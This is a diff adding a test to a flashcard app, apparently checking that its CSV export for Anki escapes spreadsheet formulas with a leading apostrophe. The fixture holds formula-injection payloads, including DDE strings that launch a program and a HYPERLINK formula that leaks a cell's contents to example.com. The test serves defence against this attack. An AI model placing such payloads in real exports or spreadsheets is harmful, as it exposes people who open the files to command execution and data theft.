@@ -398,3 +398,67 @@ def test_a_tag_added_here_makes_the_note_newer(deck_file, tmp_path):
     finally:
         store.close()
     assert changes["recognised"][1] == later and changes["article"][1] == first
+
+
+FORMULAS = """\
+id: sheet
+title: Sheet
+cards:
+  - id: calc
+    kind: basic
+    question: "=cmd|' /C calc'!A0"
+    answer: '=HYPERLINK("http://example.com/?leak="&A1,"click")'
+    guid: "+Ab3$x!k"
+  - id: minus
+    kind: basic
+    question: "@SUM(1+1)*cmd|' /C calc'!A0"
+    answer: "-40 degrees"
+  - id: quoted
+    kind: basic
+    question: "'=already an apostrophe"
+    answer: "+91 is India's calling code"
+    guid: "=cmd|' /C calc'!A0"
+"""
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(quizapp, tmp_path):
+    from anki.import_export_pb2 import ImportCsvRequest
+
+    deck = tmp_path / "sheet.yaml"
+    deck.write_text(FORMULAS, encoding="utf-8")
+    table = tmp_path / "sheet.csv"
+    assert quizapp("export", deck, "--to", table)[0] == 0
+    rows = list(csv.reader(table.read_text(encoding="utf-8").splitlines()[7:]))
+    assert [row[:2] for row in rows] == [
+        ["'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://example.com/?leak="&A1,"click")'],
+        ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-40 degrees"],
+        ["''=already an apostrophe", "'+91 is India's calling code"],
+    ]
+    # A GUID as Anki makes them stays as it is (Anki matches notes by it); any other is escaped.
+    assert [row[5] for row in rows] == [
+        "+Ab3$x!k",
+        note_guid("sheet", "minus"),
+        "'=cmd|' /C calc'!A0",
+    ]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row[:5])
+
+    # quizapp reads its own file back exactly.
+    out = tmp_path / "again.yaml"
+    assert quizapp("import", table, "--out", out, "--id", "sheet")[0] == 0
+    again = load_deck(out, use_cache=False)[0].deck
+    original = load_deck(deck, use_cache=False)[0].deck
+    assert [(c.id, c.question, c.answer, c.guid) for c in again.cards] == [
+        (c.id, c.question, c.answer, c.guid) for c in original.cards
+    ]
+
+    # Anki's importer reads it: the notes keep their GUIDs, the apostrophe stays in the field.
+    col = anki_collection(tmp_path / "anki")
+    try:
+        metadata = col.get_csv_metadata(path=str(table), delimiter=None)
+        col.import_csv(ImportCsvRequest(path=str(table), metadata=metadata))
+        rows = note_rows(col)
+    finally:
+        col.close()
+    by_guid = {r["guid"]: r["fields"]["Front"] for r in rows}
+    assert by_guid["+Ab3$x!k"] == "&#x27;=cmd|&#x27; /C calc&#x27;!A0"  # as Anki escapes it
+    assert len(rows) == 3
